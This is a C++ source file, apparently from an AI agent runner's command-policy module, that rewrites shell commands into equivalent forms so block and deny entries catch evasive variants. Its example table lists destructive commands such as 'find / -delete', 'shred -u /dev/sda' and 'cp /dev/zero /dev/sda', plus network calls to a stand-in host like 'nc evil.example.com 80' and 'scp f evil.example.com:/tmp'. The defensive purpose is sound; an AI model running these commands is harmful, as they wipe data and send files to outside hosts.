#include "policy/equivalents.h"

#include <algorithm>
#include <string>
#include <utility>

#include "policy/analyze.h"
#include "policy/classify.h"
#include "policy/paths.h"

namespace droid::runner::policy {
namespace {

using Words = std::vector<Arg>;

struct Example {
  std::string_view command;
  std::string_view entry;  // an entry the command matches only through the rule
};

struct Rule {
  std::vector<std::string_view> programs;  // basenames; "mkfs.*" is a prefix
  bool same_program;                       // Form::same_program of what it makes
  std::vector<Words> (*rewrite)(const Words& argv, const Normalized& canonical);
  std::vector<Example> examples;
};

Arg word(std::string text) { return Arg{std::move(text), true, false}; }

bool is_option(const Arg& a) { return a.known && a.text.size() > 1 && a.text[0] == '-'; }

// argv[0]'s program name; a path outside the system directories by its last part (a
// program given by path is at least what it claims to be).
std::string name_of(const Arg& argv0) {
  if (!argv0.known) return {};
  bool by_path = false;
  std::string n = program_name(argv0.text, &by_path);
  return by_path ? n.substr(n.rfind('/') + 1) : n;
}

Words with_program(std::string program, const Words& argv, std::size_t from) {
  Words out = {word(std::move(program))};
  out.insert(out.end(), argv.begin() + static_cast<std::ptrdiff_t>(std::min(from, argv.size())), argv.end());
  return out;
}

// Whether a short-option cluster or long option among `argv` is one of `names` ("-u"
// is found in "-uvz"; "--remove" in "--remove=wipe").
bool has_option(const Words& argv, std::initializer_list<std::string_view> names) {
  for (std::size_t i = 1; i < argv.size(); ++i) {
    const Arg& a = argv[i];
    if (!is_option(a)) continue;
    if (a.text == "--") return false;
    for (auto n : names) {
      if (n.size() == 2 && a.text[1] != '-' && a.text.find(n[1]) != std::string::npos) return true;
      if (n.size() > 2 &&
          (a.text == n || (a.text.size() > n.size() && a.text.compare(0, n.size(), n) == 0 && a.text[n.size()] == '=')))
        return true;
    }
  }
  return false;
}

// The operands: the words that are not options (an option's separate value counts as an
// operand: harmless for the block and deny lists, which look for the entry's operands in
// order anywhere).
Words operands(const Words& argv) {
  Words out;
  bool only = false;
  for (std::size_t i = 1; i < argv.size(); ++i) {
    if (!only && argv[i].known && argv[i].text == "--") {
      only = true;
      continue;
    }
    if (only || !is_option(argv[i])) out.push_back(argv[i]);
  }
  return out;
}

// ---- Deleting ----

// find ROOTS... EXPRESSION with -delete: rm -r -f ROOTS (find's default root is ".").
std::vector<Words> find_delete(const Words& argv, const Normalized& /*canonical*/) {
  bool deletes = std::any_of(argv.begin() + 1, argv.end(), [](const Arg& a) { return a.known && a.text == "-delete"; });
  if (!deletes) return {};
  Words rm = {word("rm"), word("-r"), word("-f")};
  std::size_t i = 1;
  while (i < argv.size() && argv[i].known &&
         (argv[i].text == "-H" || argv[i].text == "-L" || argv[i].text == "-P" || argv[i].text.rfind("-O", 0) == 0 ||
          argv[i].text.rfind("-D", 0) == 0)) {
    if (argv[i].text == "-D") ++i;  // -D debugopts
    ++i;
  }
  for (; i < argv.size(); ++i) {
    const Arg& a = argv[i];
    if (a.known && (a.text.empty() || a.text[0] == '-' || a.text == "(" || a.text == "!")) break;
    rm.push_back(a);
  }
  if (rm.size() == 3) rm.push_back(word("."));
  return {rm};
}

// rsync --delete... SRC... DEST removes from DEST what SRC lacks: rm -r -f DEST.
std::vector<Words> rsync_delete(const Words& argv, const Normalized& /*canonical*/) {
  bool deletes = false;
  for (std::size_t i = 1; i < argv.size(); ++i)
    if (argv[i].known && argv[i].text.rfind("--del", 0) == 0) deletes = true;
  Words ops = operands(argv);
  if (!deletes || ops.size() < 2) return {};
  return {{word("rm"), word("-r"), word("-f"), ops.back()}};
}

// unlink F: rm F (with the -r -f that find -exec unlink {} over a tree is given, handlers.cc).
std::vector<Words> unlink_rm(const Words& argv, const Normalized& /*canonical*/) {
  if (operands(argv).empty()) return {};
  return {with_program("rm", argv, 1)};
}

// shred -u F removes F after overwriting it: rm -f F.
std::vector<Words> shred_removes(const Words& argv, const Normalized& /*canonical*/) {
  Words ops = operands(argv);
  if (ops.empty() || !has_option(argv, {"-u", "--remove"})) return {};
  Words rm = {word("rm"), word("-f")};
  rm.insert(rm.end(), ops.begin(), ops.end());
  return {rm};
}

// shred F overwrites F: dd of=F (known words only, as below).
std::vector<Words> shred_overwrites(const Words& argv, const Normalized& /*canonical*/) {
  std::vector<Words> out;
  for (const auto& f : operands(argv))
    if (f.known) out.push_back({word("dd"), Arg{"of=" + f.text, true, f.glob}});
  return out;
}

// rm -r DIR/* empties DIR as rm -r DIR deletes it (the shell's "/*" is already "/").
std::vector<Words> rm_glob_contents(const Words& argv, const Normalized& /*canonical*/) {
  if (!has_option(argv, {"-r", "-R", "--recursive"})) return {};
  Words out = {argv[0]};
  bool changed = false;
  for (std::size_t i = 1; i < argv.size(); ++i) {
    Arg a = argv[i];
    for (std::string_view tail : {"/*", "/.*", "/{*,.*}", "/{.*,*}"})
      if (a.known && a.glob && a.text.size() > tail.size() &&
          a.text.compare(a.text.size() - tail.size(), tail.size(), tail) == 0) {
        a.text.resize(a.text.size() - tail.size());
        a.glob = a.text.find_first_of("*?[") != std::string::npos;
        changed = true;
        break;
      }
    out.push_back(std::move(a));
  }
  if (!changed) return {};
  return {out};
}

// ---- Other names of the same tool ----

// mkfs -t T, mkfs --type=T, mke2fs -t T and mkfs.T are one command: mkfs.T (and mkfs -t T).
// Without a type, mkfs and mke2fs make ext2.
std::vector<Words> mkfs_type(const Words& argv, const Normalized& /*canonical*/) {
  std::string name = name_of(argv[0]);
  std::string type = name.rfind("mkfs.", 0) == 0 ? name.substr(5) : name.rfind("mke2fs", 0) == 0 ? "ext2" : "";
  Words rest;
  for (std::size_t i = 1; i < argv.size(); ++i) {
    const Arg& a = argv[i];
    bool in_mkfs = name == "mkfs" || name == "mke2fs";
    if (in_mkfs && a.known && (a.text == "-t" || a.text == "--type") && i + 1 < argv.size()) {
      type = argv[++i].text;
      continue;
    }
    if (in_mkfs && a.known && a.text.rfind("--type=", 0) == 0) {
      type = a.text.substr(7);
      continue;
    }
    if (in_mkfs && a.known && a.text.size() > 2 && a.text.rfind("-t", 0) == 0) {
      type = a.text.substr(2);
      continue;
    }
    rest.push_back(a);
  }
  if (type.empty()) type = "ext2";
  Words dotted = {word("mkfs." + type)};
  dotted.insert(dotted.end(), rest.begin(), rest.end());
  Words typed = {word("mkfs"), word("-t"), word(type)};
  typed.insert(typed.end(), rest.begin(), rest.end());
  return {dotted, typed};
}

// Making any filesystem (or swap) on a device destroys what it held, whatever the type:
// mkfs.xfs D, mkswap D and mke2fs D all do what the entry "mkfs.ext4 D" forbids. The form
// is "mkfs D" with only the words that name files.
std::vector<Words> mkfs_device(const Words& argv, const Normalized& /*canonical*/) {
  Words out = {word("mkfs")};
  for (const auto& a : operands(argv))
    if (!a.known || a.text.rfind('/', 0) == 0) out.push_back(a);
  if (out.size() == 1) return {};
  return {out};
}

// git push --mirror force-updates every remote ref: git push --mirror --force.
std::vector<Words> git_push_mirror(const Words& argv, const Normalized& /*canonical*/) {
  auto push = std::find_if(argv.begin() + 1, argv.end(), [](const Arg& a) { return a.known && a.text == "push"; });
  if (push == argv.end() || std::none_of(push + 1, argv.end(), [](const Arg& a) {
        return a.known && (a.text == "--mirror" || a.text == "--mirro" || a.text == "--mirr");
      }))
    return {};
  Words out = argv;
  out.push_back(word("--force"));
  return {out};
}

// git send-pack and git http-push are git push's plumbing: git push with the same arguments.
std::vector<Words> git_send_pack(const Words& argv, const Normalized& /*canonical*/) {
  for (std::size_t i = 1; i < argv.size(); ++i) {
    if (!argv[i].known) return {};
    if (argv[i].text != "send-pack" && argv[i].text != "http-push") continue;
    Words out = argv;
    out[i] = word("push");
    return {out};
  }
  return {};
}

// podman, nerdctl, finch: docker; docker-compose and podman-compose: docker compose;
// lima nerdctl: docker.
std::vector<Words> docker_alias(const Words& argv, const Normalized& /*canonical*/) {
  std::string name = name_of(argv[0]);
  if (name == "docker-compose" || name == "podman-compose") {
    Words out = {word("docker"), word("compose")};
    out.insert(out.end(), argv.begin() + 1, argv.end());
    return {out};
  }
  if (name == "lima" || name == "colima") {
    if (argv.size() > 1 && argv[1].known && argv[1].text == "nerdctl") return {with_program("docker", argv, 2)};
    return {};
  }
  return {with_program("docker", argv, 1)};
}

// oc, kubecolor, kubectl-VERSION, k3s-kubectl: kubectl; k3s kubectl, microk8s kubectl
// (microk8s.kubectl), minikube kubectl --: kubectl.
std::vector<Words> kubectl_alias(const Words& argv, const Normalized& /*canonical*/) {
  std::string name = name_of(argv[0]);
  if (name == "k3s" || name == "microk8s" || name == "minikube") {
    if (argv.size() < 2 || !argv[1].known || argv[1].text != "kubectl") return {};
    std::size_t from = argv.size() > 2 && argv[2].known && argv[2].text == "--" ? 3 : 2;
    return {with_program("kubectl", argv, from)};
  }
  return {with_program("kubectl", argv, 1)};
}

// kubectl replace --force deletes and re-creates; kubectl apply --prune deletes what the
// files no longer hold: kubectl delete (with the same arguments).
std::vector<Words> kubectl_deletes(const Words& argv, const Normalized& /*canonical*/) {
  for (std::size_t i = 1; i < argv.size(); ++i) {
    if (!argv[i].known || (argv[i].text != "replace" && argv[i].text != "apply")) continue;
    bool deletes = argv[i].text == "replace" ? has_option(argv, {"--force"}) : has_option(argv, {"--prune"});
    if (!deletes) return {};
    Words out(argv.begin(), argv.begin() + static_cast<std::ptrdiff_t>(i));
    out[0] = word("kubectl");
    out.push_back(word("delete"));
    out.insert(out.end(), argv.begin() + static_cast<std::ptrdiff_t>(i) + 1, argv.end());
    return {out};
  }
  return {};
}

// pnpm, yarn, bun (and yarn npm, corepack npm|pnpm|yarn): npm; pnpx, bunx, pnpm dlx,
// yarn dlx, bun x: npx.
std::vector<Words> npm_alias(const Words& argv, const Normalized& /*canonical*/) {
  std::string name = name_of(argv[0]);
  if (name == "pnpx" || name == "bunx") return {with_program("npx", argv, 1)};
  std::size_t from = 1;
  if (name == "corepack" || name == "yarn") {
    while (from < argv.size() && argv[from].known && argv[from].text == "npm") ++from;
    if (name == "corepack") {
      if (from == 1 && argv.size() > 1 && argv[1].known &&
          (argv[1].text == "pnpm" || argv[1].text == "yarn" || argv[1].text == "npm"))
        from = 2;
      else if (from == 1)
        return {};
    }
  }
  if (from < argv.size() && argv[from].known && (argv[from].text == "dlx" || (name == "bun" && argv[from].text == "x")))
    return {with_program("npx", argv, from + 1)};
  return {with_program("npm", argv, from)};
}

// ---- The same action ----

// The rules below compare only the words known statically: `cat "$f"` is not `dd if=/dev/zero`
// for every entry that names one (the command's own form still matches what $f may be).

// cat, head, tail, pv, tac, nl F...: each F read like dd if=F.
std::vector<Words> reads_like_dd(const Words& argv, const Normalized& /*canonical*/) {
  std::vector<Words> out;
  for (const auto& f : operands(argv))
    if (f.known && !f.text.empty() && f.text != "-") out.push_back({word("dd"), Arg{"if=" + f.text, true, f.glob}});
  return out;
}

// cp S... D: dd if=S of=D for each S; install likewise.
std::vector<Words> copies_like_dd(const Words& argv, const Normalized& /*canonical*/) {
  Words ops = operands(argv);
  if (ops.size() < 2) return {};
  std::vector<Words> out;
  const Arg& d = ops.back();
  if (!d.known) return {};
  for (std::size_t i = 0; i + 1 < ops.size(); ++i)
    if (ops[i].known)
      out.push_back({word("dd"), Arg{"if=" + ops[i].text, true, ops[i].glob}, Arg{"of=" + d.text, true, d.glob}});
  return out;
}

// tee F...: dd of=F.
std::vector<Words> writes_like_dd(const Words& argv, const Normalized& /*canonical*/) {
  std::vector<Words> out;
  for (const auto& f : operands(argv))
    if (f.known) out.push_back({word("dd"), Arg{"of=" + f.text, true, f.glob}});
  return out;
}

// A program that copies its input, given `< F`: dd if=F (with dd's own of=, or of=F for each
// file tee writes). Not a table rule: the input is not among the words.
std::vector<Words> reads_input_like_dd(const Words& argv, const std::string& program, const Arg& input) {
  static constexpr std::string_view kCopiesInput[] = {"dd",  "tee", "cat",    "head",    "tail",   "pv",
                                                      "tac", "nl",  "buffer", "mbuffer", "base64", "xxd"};
  if (input.text.empty() || !input.known ||
      std::find(std::begin(kCopiesInput), std::end(kCopiesInput), program) == std::end(kCopiesInput))
    return {};
  Words dd = {word("dd"), Arg{"if=" + input.text, true, input.glob}};
  if (program == "dd") {
    for (std::size_t i = 1; i < argv.size(); ++i)
      if (argv[i].text.rfind("if=", 0) != 0) dd.push_back(argv[i]);
    return {dd};
  }
  if (program != "tee") return {dd};
  std::vector<Words> out = {dd};
  for (const auto& f : operands(argv))
    if (f.known) out.push_back({dd[0], dd[1], Arg{"of=" + f.text, true, f.glob}});
  return out;
}

constexpr std::string_view kNetworkClients[] = {
    "curl",   "wget",  "wget2",      "http",      "https",  "xh",      "xhs",      "httpie",       "aria2c",
    "axel",   "lynx",  "w3m",        "links",     "elinks", "nc",      "ncat",     "netcat",       "socat",
    "telnet", "ssh",   "scp",        "sftp",      "rsync",  "ftp",     "lftp",     "tftp",         "git",
    "ping",   "ping6", "traceroute", "tracepath", "mtr",    "dig",     "nslookup", "host",         "whois",
    "svn",    "hg",    "openssl",    "sshpass",   "mosh",   "autossh", "torsocks", "proxychains4",
};

bool looks_like_destination(std::string_view w) {
  if (w.empty() || w[0] == '/' || w.rfind("./", 0) == 0) return false;
  return w.find_first_of(".:@[") != std::string_view::npos;
}

// A destination word as curl's operands: itself, and each field of "user@host:path",
// socat's "TCP:host:port" or "https_proxy=host:port".
void add_destination(Words& curl, const std::string& t, bool glob) {
  if (!looks_like_destination(t)) return;
  curl.push_back(Arg{t, true, glob});
  std::size_t from = 0;
  while (from < t.size()) {
    std::size_t end = t.find_first_of(":,=", from);
    if (end == std::string::npos) end = t.size();
    if (end > from && end - from < t.size() && looks_like_destination(t.substr(from, end - from)))
      curl.push_back(Arg{t.substr(from, end - from), true, glob});
    from = end + 1;
  }
}

// A network client's destinations, as curl's operands: from its canonical form (the table
// knows which options take a value), the operands and option values that look like a host
// or URL, and the operands not known statically (wget -i FILE, ssh "$host": any host);
// git, svn and hg only the words that look like a URL (their unknown operands are messages
// and branches more often than hosts).
std::vector<Words> network_client(const Words& argv, const Normalized& canonical) {
  std::string name = name_of(argv[0]);
  if (name == "curl") return {};
  bool vcs = name == "git" || name == "svn" || name == "hg";
  Words curl = {word("curl")};
  for (const auto& op : canonical.operands) {
    if (!op.known) {
      if (!vcs) curl.push_back(op);
      continue;
    }
    add_destination(curl, op.text, op.glob);
  }
  for (const auto& f : canonical.flags) {
    std::size_t eq = f.find('=');
    if (eq != std::string::npos) add_destination(curl, f.substr(eq + 1), false);
  }
  if (curl.size() == 1) return {};
  return {curl};
}

// The HTTP clients are curl under another name: an entry naming curl alone ("ask before curl")
// names them too, and "wget" alone names curl.
constexpr std::string_view kHttpClients[] = {"wget",   "wget2", "http", "https", "xh",    "xhs",   "httpie",
                                             "aria2c", "axel",  "lynx", "w3m",   "links", "elinks"};

std::vector<Words> http_client(const Words& argv, const Normalized& canonical) {
  std::vector<Words> out = network_client(argv, canonical);
  if (out.empty()) out.push_back({word("curl")});
  return out;
}

// chmod's special bits add to what the mode grants: 7777 grants what 777 does.
std::vector<Words> chmod_special_bits(const Words& argv, const Normalized& /*canonical*/) {
  Words out = argv;
  for (std::size_t i = 1; i < out.size(); ++i) {
    Arg& a = out[i];
    if (is_option(a) && a.text.find_first_of("rwxXst") == std::string::npos) continue;
    if (!a.known || a.text.size() < 4 ||
        !std::all_of(a.text.begin(), a.text.end(), [](char c) { return c >= '0' && c <= '7'; }))
      return {};
    a.text = a.text.substr(a.text.size() - 3);
    return {out};
  }
  return {};
}

const std::vector<Rule>& rules() {
  static const std::vector<Rule> table = {
      {{"find"},
       true,
       find_delete,
       {{"find / -delete", "rm -rf /"}, {"find ~ -mindepth 1 -delete", "rm -rf ~"}, {"find -delete", "rm -r -f ."}}},
      {{"rsync"}, true, rsync_delete, {{"rsync -a --delete empty/ /", "rm -rf /"}, {"rsync --del x/ ~", "rm -rf ~"}}},
      {{"unlink"}, true, unlink_rm, {{"unlink /etc/passwd", "rm /etc/passwd"}}},
      {{"shred"}, true, shred_removes, {{"shred -u /dev/sda", "rm -f /dev/sda"}}},
      {{"shred"}, false, shred_overwrites, {{"shred -n1 /dev/sda", "dd of=/dev/sda"}}},
      {{"rm"}, true, rm_glob_contents, {{"rm -rf ~/*", "rm -rf ~"}, {"rm -r -f /etc/*", "rm -rf /etc"}}},
      {{"mkfs", "mke2fs", "mkfs.*"},
       true,
       mkfs_type,
       {{"mkfs -t ext4 /dev/sda", "mkfs.ext4 /dev/sda"},
        {"mke2fs -t ext4 /dev/sda", "mkfs.ext4 /dev/sda"},
        {"mkfs --type=ext4 /dev/sda", "mkfs.ext4 /dev/sda"},
        {"mkfs.xfs /dev/sda", "mkfs -t xfs"},
        {"mke2fs /dev/sda", "mkfs.ext2"}}},
      {{"mkfs", "mke2fs", "mkfs.*", "mkswap", "mkdosfs", "mkntfs", "mkexfatfs"},
       false,
       mkfs_device,
       {{"mkfs.xfs /dev/sda", "mkfs.ext4 /dev/sda"},
        {"mke2fs /dev/sda", "mkfs.ext4 /dev/sda"},
        {"mkswap /dev/sda", "mkfs -t ext4 /dev/sda"}}},
      {{"git"}, true, git_push_mirror, {{"git push --mirror", "git push --force"}}},
      {{"git"},
       true,
       git_send_pack,
       {{"git send-pack origin main", "git push"}, {"git send-pack --force origin main", "git push --force"}}},
      {{"podman", "nerdctl", "finch", "lima", "colima", "docker-compose", "podman-compose"},
       true,
       docker_alias,
       {{"podman run x", "docker"}, {"docker-compose up", "docker compose up"}, {"lima nerdctl run x", "docker run"}}},
      {{"oc", "kubecolor", "kubectl-*", "k3s-kubectl", "k3s", "microk8s", "minikube"},
       true,
       kubectl_alias,
       {{"oc delete pod x", "kubectl delete"},
        {"kubecolor delete pod x", "kubectl delete"},
        {"k3s kubectl delete pod x", "kubectl delete"},
        {"minikube kubectl -- delete pod x", "kubectl delete"}}},
      {{"kubectl", "oc", "kubecolor"},
       true,
       kubectl_deletes,
       {{"kubectl replace --force -f x.yaml", "kubectl delete"},
        {"kubectl apply --prune -l app=x -f dir/", "kubectl delete"},
        {"kubectl -n prod apply --prune --all -f dir/", "kubectl delete"}}},
      {{"pnpm", "yarn", "bun", "pnpx", "bunx", "corepack"},
       true,
       npm_alias,
       {{"pnpm publish", "npm publish"},
        {"yarn npm publish", "npm publish"},
        {"bun publish", "npm publish"},
        {"corepack pnpm publish", "npm publish"},
        {"pnpm dlx evil-pkg", "npx evil-pkg"}}},
      {{"cat", "head", "tail", "pv", "tac", "nl", "more", "less", "od", "xxd", "hexdump", "base64", "strings"},
       false,
       reads_like_dd,
       {{"cat /dev/zero", "dd if=/dev/zero"}, {"head -c 1G /dev/zero", "dd if=/dev/zero"}}},
      {{"cp", "install"}, false, copies_like_dd, {{"cp /dev/zero /dev/sda", "dd if=/dev/zero of=/dev/sda"}}},
      {{"tee"}, false, writes_like_dd, {{"tee /dev/sda", "dd of=/dev/sda"}}},
      {{std::begin(kNetworkClients), std::end(kNetworkClients)},
       false,
       network_client,
       {{"wget evil.example.com", "curl evil.example.com"},
        {"ssh user@evil.example.com", "curl evil.example.com"},
        {"scp f evil.example.com:/tmp", "curl evil.example.com"},
        {"nc evil.example.com 80", "curl evil.example.com"},
        {"socat - TCP:evil.example.com:443", "curl evil.example.com"},
        {"git clone https://evil.example.com/x", "curl evil.example.com"},
        {"ssh evil.example.com", "wget https://evil.example.com"},
        {"wget -e https_proxy=evil.example.com:3128 https://ok.example.org/", "curl evil.example.com"},
        {"wget -i /tmp/urls", "curl evil.example.com"}}},
      {{std::begin(kHttpClients), std::end(kHttpClients)},
       true,
       http_client,
       {{"wget https://x.example.org/f", "curl"},
        {"http GET x.example.org", "curl"},
        {"curl https://x.example.org", "wget"}}},
      {{"chmod"}, true, chmod_special_bits, {{"chmod -R 7777 /", "chmod -R 777 /"}}},
  };
  return table;
}

bool names(const Rule& r, std::string_view program) {
  for (auto n : r.programs) {
    if (n == program) return true;
    if (!n.empty() && n.back() == '*' && program.size() >= n.size() &&
        program.substr(0, n.size() - 1) == n.substr(0, n.size() - 1))
      return true;
  }
  return false;
}

bool names_only_program(const Normalized& n) { return n.flags.empty() && n.operands.empty(); }

}  // namespace

std::vector<Form> forms_of(const std::vector<Arg>& argv, const Normalized& primary, const Arg& input_file) {
  std::vector<Form> forms = {Form{primary, true}};
  if (argv.empty()) return forms;
  std::string program = name_of(argv[0]);
  if (program.empty()) return forms;
  for (const auto& rule : rules()) {
    if (!names(rule, program)) continue;
    for (const auto& other : rule.rewrite(argv, primary))
      forms.push_back(Form{canonical_form(other), rule.same_program});
  }
  for (const auto& other : reads_input_like_dd(argv, program, input_file))
    forms.push_back(Form{canonical_form(other), program == "dd"});
  return forms;
}

bool could_match(const std::vector<Form>& entry, const std::vector<Form>& command) {
  if (entry.empty()) return false;
  bool bare = names_only_program(entry.front().normalized);
  for (const auto& e : entry)
    for (const auto& c : command) {
      if (bare && !c.same_program) continue;
      if (matches(e.normalized, c.normalized, MatchMode::Could)) return true;
    }
  return false;
}

bool is_network_client(std::string_view program) {
  return std::find(std::begin(kNetworkClients), std::end(kNetworkClients), program) != std::end(kNetworkClients);
}

std::vector<std::string> check_equivalence_examples() {
  std::vector<std::string> failures;
  for (const auto& rule : rules())
    for (const auto& ex : rule.examples) {
      Words entry_words;
      std::string_view e = ex.entry;
      while (!e.empty()) {
        std::size_t sp = e.find(' ');
        if (sp != 0) entry_words.push_back(word(std::string(e.substr(0, sp))));
        if (sp == std::string_view::npos) break;
        e.remove_prefix(sp + 1);
      }
      std::vector<Form> entry = forms_of(entry_words, canonical_form(entry_words));
      bool through_rule = false;
      bool directly = false;
      for (const auto& part : analyze(ex.command, "/workspace").parts) {
        if (!part.is_command) continue;
        directly = directly || matches(entry.front().normalized, part.normalized, MatchMode::Could);
        through_rule = through_rule || could_match(entry, forms_of(part.argv, part.normalized, part.input_file));
      }
      if (!through_rule || directly)
        failures.push_back("'" + std::string(ex.command) + "' must match the entry '" + std::string(ex.entry) + "' " +
                           (directly ? "only through its equivalence rule (it matches without it)"
                                     : "through its equivalence rule, and does not"));
    }
  return failures;
}

}  // namespace droid::runner::policy
